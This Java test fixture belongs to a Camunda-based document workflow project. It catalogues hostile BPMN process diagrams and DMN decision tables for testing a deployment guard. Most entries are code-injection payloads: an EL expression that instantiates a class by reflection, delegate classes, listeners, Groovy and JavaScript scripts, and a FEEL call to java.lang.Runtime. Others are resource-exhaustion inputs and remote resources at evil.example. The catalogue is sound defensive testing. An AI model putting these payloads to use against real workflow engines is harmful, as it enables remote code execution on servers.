package vn.congvan.workflow;

import java.util.List;
import org.camunda.bpm.engine.impl.cfg.ProcessEngineConfigurationImpl;

/** The diagrams and tables of somebody who wants to run code, kind by kind. */
public final class HostileDiagrams {

  /**
   * One way to smuggle code in.
   *
   * @param kind what it is, for the report
   * @param body the process's elements between start and the box with id {@code t}, or a whole
   *     table
   * @param says what the refusal says about it
   */
  public record Hostile(String kind, String body, String says) {

    Hostile(String kind, String body) {
      this(kind, body, "Ô lạ");
    }

    @Override
    public String toString() {
      return kind;
    }

    /** The whole file. */
    public String diagram() {
      return HostileDiagrams.diagram(body);
    }
  }

  /** Makes a trap by reflection; on a bare engine it runs. */
  public static final String SPRING =
      "${''.getClass().forName('vn.congvan.workflow.Trap').newInstance()}";

  private static final String TRAP = "vn.congvan.workflow.Trap";

  private HostileDiagrams() {}

  /** What a bare engine runs as soon as the process is started; ours takes none of it. */
  public static List<Hostile> running() {
    return List.of(
        new Hostile("class", task("serviceTask", "camunda:class='" + TRAP + "'")),
        new Hostile(
            "class, in the words of the engine's forerunner",
            task("serviceTask", "activiti:class='" + TRAP + "'")),
        new Hostile("class of a sending task", task("sendTask", "camunda:class='" + TRAP + "'")),
        new Hostile(
            "class of a business rule", task("businessRuleTask", "camunda:class='" + TRAP + "'")),
        new Hostile("expression", task("serviceTask", "camunda:expression=\"" + SPRING + "\"")),
        new Hostile(
            "expression, in the words of the engine's forerunner",
            task("serviceTask", "activiti:expression=\"" + SPRING + "\"")),
        new Hostile(
            "delegate expression",
            task("serviceTask", "camunda:delegateExpression=\"" + SPRING + "\"")),
        new Hostile(
            "script",
            "<bpmn:scriptTask id='t' name='Ô lạ' scriptFormat='juel'><bpmn:script>"
                + SPRING
                + "</bpmn:script></bpmn:scriptTask>"),
        new Hostile("listener by class", listened("executionListener", "start", "class", TRAP)),
        new Hostile(
            "listener by expression", listened("executionListener", "start", "expression", SPRING)),
        new Hostile(
            "listener by delegate expression",
            listened("executionListener", "start", "delegateExpression", SPRING)),
        new Hostile("task listener by class", listened("taskListener", "create", "class", TRAP)),
        new Hostile(
            "task listener by expression",
            listened("taskListener", "create", "expression", SPRING)),
        new Hostile(
            "listener by script",
            extended(
                "userTask",
                "<camunda:executionListener event='start'><camunda:script scriptFormat='juel'>"
                    + SPRING
                    + "</camunda:script></camunda:executionListener>")),
        new Hostile(
            "input by script",
            extended(
                    "userTask",
                    "<camunda:inputOutput><camunda:inputParameter name='a'><camunda:script"
                        + " scriptFormat='juel'>${x.toString()}</camunda:script></camunda:inputParameter><camunda:inputParameter"
                        + " name='b'>"
                        + SPRING.replace("newInstance()", "newInstance().toString()")
                        + "</camunda:inputParameter></camunda:inputOutput>")
                .replace("${x.toString()}", "${1}")),
        new Hostile("assignee", task("userTask", "camunda:assignee=\"" + SPRING + "\"")),
        new Hostile(
            "candidate groups", task("userTask", "camunda:candidateGroups=\"" + SPRING + "\"")),
        new Hostile("due date", task("userTask", "camunda:dueDate=\"" + SPRING + "\"")),
        new Hostile("name", "<bpmn:userTask id='t' name=\"Ô lạ " + SPRING + "\"/>"),
        new Hostile(
            "documentation",
            "<bpmn:userTask id='t' name='Ô lạ'><bpmn:documentation>"
                + SPRING
                + "</bpmn:documentation></bpmn:userTask>"),
        new Hostile(
            "condition",
            "<bpmn:exclusiveGateway id='t' name='Ô lạ' default='d'/><bpmn:endEvent id='e'/>"
                + "<bpmn:sequenceFlow id='d' sourceRef='t' targetRef='e'/>"
                + "<bpmn:sequenceFlow id='c' sourceRef='t' targetRef='e'><bpmn:conditionExpression>"
                + SPRING.replace("}", " != null}")
                + "</bpmn:conditionExpression></bpmn:sequenceFlow>"),
        new Hostile(
            "condition by script",
            "<bpmn:exclusiveGateway id='t' name='Ô lạ' default='d'/><bpmn:endEvent id='e'/>"
                + "<bpmn:sequenceFlow id='d' sourceRef='t' targetRef='e'/><bpmn:sequenceFlow"
                + " id='c' sourceRef='t' targetRef='e'><bpmn:conditionExpression"
                + " xsi:type='bpmn:tFormalExpression' language='juel'>"
                + SPRING.replace("}", " != null}")
                + "</bpmn:conditionExpression></bpmn:sequenceFlow>"),
        new Hostile(
            "timer",
            "<bpmn:intermediateCatchEvent id='t' name='Ô"
                + " lạ'><bpmn:timerEventDefinition><bpmn:timeDuration>"
                + SPRING
                + "</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>"),
        new Hostile(
            "message name",
            "<bpmn:receiveTask id='t' name='Ô lạ' messageRef='m'/></bpmn:process><bpmn:message"
                + " id='m' name=\""
                + SPRING
                + "\"/><bpmn:process id='x'>",
            "2 quy trình"),
        new Hostile(
            "called element",
            "<bpmn:callActivity id='t' name='Ô lạ' calledElement=\"" + SPRING + "\"/>"),
        new Hostile(
            "mapping of variables by class",
            "<bpmn:callActivity id='t' name='Ô lạ' calledElement='hostile'"
                + " camunda:variableMappingClass='"
                + TRAP
                + "'/>"),
        new Hostile(
            "collection of a multiple box",
            "<bpmn:userTask id='t' name='Ô"
                + " lạ'><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>"
                + SPRING
                + "</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>"));
  }

  /** What is refused as well, though it needs more than a start to do harm. */
  public static List<Hostile> others() {
    return List.of(
        new Hostile("shell", task("serviceTask", "camunda:type='shell'")),
        new Hostile("mail", task("serviceTask", "camunda:type='mail'")),
        new Hostile(
            "external task", task("serviceTask", "camunda:type='external' camunda:topic='x'")),
        new Hostile("bean", task("serviceTask", "camunda:delegateExpression='${dataSource}'")),
        new Hostile(
            "function library as a step",
            task("serviceTask", "camunda:delegateExpression='${office}'")),
        new Hostile("form key", task("userTask", "camunda:formKey=\"" + SPRING + "\"")),
        new Hostile(
            "default value of a generated form's field",
            extended(
                "userTask",
                "<camunda:formData><camunda:formField id='a' type='string' defaultValue=\""
                    + SPRING
                    + "\"/></camunda:formData>")),
        new Hostile("groovy", script("groovy")),
        new Hostile("javascript", script("javascript")),
        new Hostile("python", script("python")),
        new Hostile("ruby", script("ruby")),
        new Hostile("feel script", script("feel")),
        new Hostile("a language nobody has heard of", script("klingon")),
        new Hostile(
            "script from elsewhere",
            "<bpmn:scriptTask id='t' name='Ô lạ' scriptFormat='juel'"
                + " camunda:resource='https://evil.example/x'/>"),
        new Hostile(
            "connector",
            extended(
                "serviceTask",
                "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>")),
        new Hostile(
            "field injection",
            "<bpmn:serviceTask id='t' name='Ô lạ'"
                + " camunda:delegateExpression='${registerDocument}'><bpmn:extensionElements><camunda:field"
                + " name='journal' stringValue='x'/></bpmn:extensionElements></bpmn:serviceTask>"),
        new Hostile(
            "field injection, in the words of the engine's forerunner",
            "<bpmn:serviceTask id='t' name='Ô lạ'"
                + " camunda:delegateExpression='${registerDocument}'><bpmn:extensionElements><activiti:field"
                + " name='journal' stringValue='x'/></bpmn:extensionElements></bpmn:serviceTask>"),
        new Hostile(
            "validator",
            extended(
                "userTask",
                "<camunda:formData><camunda:formField id='a' type='string'><camunda:validation>"
                    + "<camunda:constraint name='validator' config='"
                    + TRAP
                    + "'/></camunda:validation></camunda:formField></camunda:formData>")),
        new Hostile("form handler", task("userTask", "camunda:formHandlerClass='" + TRAP + "'")),
        new Hostile(
            "form from elsewhere",
            task("userTask", "camunda:formKey='https://evil.example/form.html'")),
        new Hostile(
            "form above its folder",
            task("userTask", "camunda:formKey='embedded:/forms/../x.html'")),
        new Hostile(
            "form of the deployment",
            task("userTask", "camunda:formKey='embedded:deployment:x.html'")),
        new Hostile("form by reference", task("userTask", "camunda:formRef='x'")),
        new Hostile(
            "mapping of variables by expression",
            "<bpmn:callActivity id='t' name='Ô lạ' calledElement='x'"
                + " camunda:variableMappingDelegateExpression='${registerDocument}'/>"),
        new Hostile(
            "a step as a value",
            extended(
                "userTask",
                "<camunda:inputOutput><camunda:inputParameter name='a'>${registerDocument}"
                    + "</camunda:inputParameter></camunda:inputOutput>")),
        new Hostile(
            "a library as a value",
            extended(
                "userTask",
                "<camunda:inputOutput><camunda:inputParameter name='a'>${office}"
                    + "</camunda:inputParameter></camunda:inputOutput>")),
        new Hostile(
            "import of a service description",
            "<bpmn:task id='t' name='Ô lạ'/></bpmn:process><bpmn:import"
                + " importType='http://schemas.xmlsoap.org/wsdl/'"
                + " location='https://evil.example/x.wsdl' namespace='x'/><bpmn:process id='x'>",
            "“import”"),
        new Hostile(
            "resource assignment",
            "<bpmn:userTask id='t' name='Ô"
                + " lạ'><bpmn:humanPerformer><bpmn:resourceAssignmentExpression>"
                + "<bpmn:formalExpression>"
                + SPRING
                + "</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:humanPerformer></bpmn:userTask>"),
        new Hostile(
            "unknown words",
            "<x:whatever xmlns:x='urn:x' id='y'/><bpmn:task id='t' name='Ô lạ'/>"));
  }

  /** Decision tables of the same kind; the last cell is what is tried. */
  public static List<Hostile> tables() {
    return List.of(
        new Hostile("table in groovy", table("expressionLanguage='groovy'", "1"), "“groovy”"),
        new Hostile(
            "table in javascript", table("expressionLanguage='javascript'", "1"), "“javascript”"),
        new Hostile("table in juel", table("expressionLanguage='juel'", SPRING), "“juel”"),
        new Hostile(
            "function of a Java class",
            table(
                "",
                "function(x) external { java: { class: \"java.lang.Runtime\", method signature:"
                    + " \"getRuntime()\" } }"),
            "“function”"),
        new Hostile("loop without end", table("", "for i in 1..1000000000 return i"), "“for”"),
        new Hostile(
            "quantifier without end",
            table("", "some i in 1..1000000000 satisfies i = 0"),
            "“some”"),
        new Hostile("unknown function", table("", "get runtime()"), "“get runtime()”"),
        new Hostile(
            "regular expression",
            table("", "matches(\"aaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")"),
            "“matches()”"),
        new Hostile(
            "nested without end", table("", "(".repeat(200) + "1" + ")".repeat(200)), "lồng ngoặc"),
        new Hostile("cell without end", table("", "1 + ".repeat(600) + "1"), "không đọc được"));
  }

  /** A diagram around one box with id {@code t}. */
  public static String diagram(String box) {
    return "<?xml version='1.0' encoding='UTF-8'?><bpmn:definitions"
        + " xmlns:bpmn='http://www.omg.org/spec/BPMN/20100524/MODEL'"
        + " xmlns:camunda='http://camunda.org/schema/1.0/bpmn'"
        + " xmlns:activiti='http://activiti.org/bpmn'"
        + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
        + " targetNamespace='x'><bpmn:process id='hostile' isExecutable='true'"
        + " camunda:historyTimeToLive='P1D'><bpmn:startEvent id='s'/><bpmn:sequenceFlow"
        + " id='f' sourceRef='s' targetRef='t'/>"
        + box
        + "</bpmn:process></bpmn:definitions>";
  }

  /** Deploys with nobody at the door, as whoever finds a way past the guard would. */
  public static void withoutTheGuard(ProcessEngineConfigurationImpl engine, Runnable act) {
    var deployers = engine.getDeployers();
    if (!deployers.get(0).getClass().getSimpleName().equals("DiagramGuard")) {
      throw new AssertionError("The guard does not come first: " + deployers);
    }
    engine.getDeploymentCache().setDeployers(deployers.subList(1, deployers.size()));
    try {
      act.run();
    } finally {
      engine.getDeploymentCache().setDeployers(deployers);
    }
  }

  private static String table(String language, String cell) {
    return "<?xml version='1.0' encoding='UTF-8'?><definitions"
        + " xmlns='https://www.omg.org/spec/DMN/20191111/MODEL/'"
        + " xmlns:camunda='http://camunda.org/schema/1.0/dmn' id='d' name='d'"
        + " namespace='x'><decision id='hostile-table' name='Bảng lạ'"
        + " camunda:historyTimeToLive='P1D'><decisionTable id='t'><output id='o'"
        + " name='o'/><rule id='r'><outputEntry id='Ô-lạ' "
        + language
        + "><text><![CDATA["
        + cell
        + "]]></text></outputEntry></rule></decisionTable></decision></definitions>";
  }

  private static String task(String kind, String attributes) {
    return "<bpmn:" + kind + " id='t' name='Ô lạ' " + attributes + "/>";
  }

  private static String script(String language) {
    return "<bpmn:scriptTask id='t' name='Ô lạ' scriptFormat='"
        + language
        + "'><bpmn:script>1</bpmn:script></bpmn:scriptTask>";
  }

  private static String listened(String listener, String event, String attribute, String value) {
    return extended(
        "userTask",
        "<camunda:" + listener + " event='" + event + "' " + attribute + "=\"" + value + "\"/>");
  }

  private static String extended(String kind, String extension) {
    return "<bpmn:"
        + kind
        + " id='t' name='Ô lạ'><bpmn:extensionElements>"
        + extension
        + "</bpmn:extensionElements></bpmn:"
        + kind
        + ">";
  }
}
